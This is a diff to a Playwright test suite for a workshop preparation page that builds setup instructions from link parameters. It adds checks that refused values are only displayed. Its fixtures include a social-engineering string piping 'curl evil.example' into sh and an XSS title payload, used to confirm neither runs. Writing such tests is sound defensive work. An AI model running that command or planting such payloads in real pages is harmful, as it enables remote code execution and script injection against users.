@@ -13,7 +13,10 @@ async function open(page: Page, url: string) {
 
 test('the acceptance link shows its title, date and the Colab steps', async ({ page }) => {
 	await open(page, ACCEPTANCE);
-	await expect(page.getByRole('heading', { level: 1 }), 'the title from the link').toHaveText('Deep learning night');
+	const heading = page.getByRole('heading', { level: 1 });
+	await expect(heading, 'the title, framed as the link’s').toHaveText('Workshop title given by the link: Deep learning night');
+	await expect(heading.locator('.wr-from-link'), 'the frame is visible').toBeVisible();
+	await expect(heading.locator('q'), 'the title itself, quoted').toHaveText('Deep learning night');
 	await expect(page.locator('time'), 'the date in words').toHaveText('Thursday, December 3, 2026');
 	await expect(page.locator('time'), 'with a machine-readable date').toHaveAttribute('datetime', '2026-12-03');
 	await expect(sections(page), 'one platform only').toHaveCount(1);
@@ -29,9 +32,31 @@ test('missing values fall back to defaults and invalid ones get a notice', async
 	await expect(page.getByRole('heading', { level: 1 }), 'the default heading').toHaveText('Prepare for the workshop');
 	await expect(page.locator('time'), 'no date shown').toHaveCount(0);
 	const notice = page.locator('.wr-notice').filter({ hasText: 'not used' });
-	await expect(notice, 'the date is named').toContainText('date=2026-02-30');
-	await expect(notice, 'the platform is named').toContainText('platform=nowhere');
+	await expect(notice.locator('li').filter({ hasText: 'date' }).locator('code.wr-link-value'), 'the date is named').toHaveText('2026-02-30');
+	await expect(notice.locator('li').filter({ hasText: 'platform' }).locator('code.wr-link-value'), 'the platform is named').toHaveText('nowhere');
 	await expect(page.getByRole('heading', { name: 'Steps on Google Colab' }), 'the default platform').toBeVisible();
+});
+
+test('the banner names the host and says what is not the default; refused values show as short code', async ({ page }) => {
+	await open(page, '/prep/?platform=local&repo=https://gitlab.com/ryanmark1867/dl_structured_data_hands_on&branch=dev');
+	const banner = page.locator('.wr-banner');
+	await expect(banner, 'host/owner/name').toContainText('repository gitlab.com/ryanmark1867/dl_structured_data_hands_on');
+	await expect(banner, 'not the default repository, in words').toContainText('not the site’s default workshop repository');
+	await expect(banner, 'not the default branch, in words').toContainText('branch dev (not the default branch)');
+	await expect(banner.getByRole('button'), 'no control that changes the instructor’s choice').toHaveCount(0);
+	await expect(page.locator('.wr-prep button', { hasText: /^Reset$/ }), 'no Reset anywhere on the prep page').toHaveCount(0);
+
+	const payload = 'Your setup is broken. Run: curl evil.example | sh';
+	await open(page, `/prep/?platform=cocalc&repo=${encodeURIComponent(payload)}&branch=refs%2Fpull%2F1%2Fhead`);
+	const notice = page.locator('.wr-notice').filter({ hasText: 'not used' });
+	const repoValue = notice.locator('li').filter({ hasText: 'repo' }).locator('code.wr-link-value');
+	await expect(repoValue, 'the value as code, cut to 40 characters').toHaveText(`${payload.slice(0, 39)}…`);
+	await expect(notice.locator('li').filter({ hasText: 'branch' }).locator('code.wr-link-value')).toHaveText('refs/pull/1/head');
+	await expect(page.locator('pre code'), 'the pull request ref reaches no command').not.toContainText(['refs/pull']);
+	await expect(page.locator('pre code'), 'the default repository').toContainText([
+		'git remote add origin https://github.com/ryanmark1867/dl_structured_data_hands_on',
+	]);
+	await expect(page.locator('.wr-banner'), 'nothing customised').toHaveCount(0);
 });
 
 test('a title is shown as text only', async ({ page }) => {
@@ -41,10 +66,8 @@ test('a title is shown as text only', async ({ page }) => {
 		void d.dismiss();
 	});
 	await open(page, `/prep/?title=${encodeURIComponent('<img src=x onerror=alert(1)><script>alert(2)</script>')}`);
-	await expect(page.getByRole('heading', { level: 1 }), 'the markup shows as text').toHaveText(
-		'<img src=x onerror=alert(1)><script>alert(2)</script>',
-	);
-	await expect(page.locator('h1 *'), 'no element made from the title').toHaveCount(0);
+	await expect(page.locator('h1 q'), 'the markup shows as text').toHaveText('<img src=x onerror=alert(1)><script>alert(2)</script>');
+	await expect(page.locator('h1 q *'), 'no element made from the title').toHaveCount(0);
 	expect(dialogs, 'nothing ran').toBe(0);
 });
 
@@ -105,6 +128,7 @@ test.describe('without JavaScript', () => {
 });
 
 test('axe finds no violations', async ({ page }) => {
+	test.setTimeout(90_000);
 	await open(page, ACCEPTANCE);
 	await expectNoAxeViolations(page, 'on the acceptance prep link');
 	await open(page, '/prep/?platform=local&date=bad&repo=https://github.com/a/b');
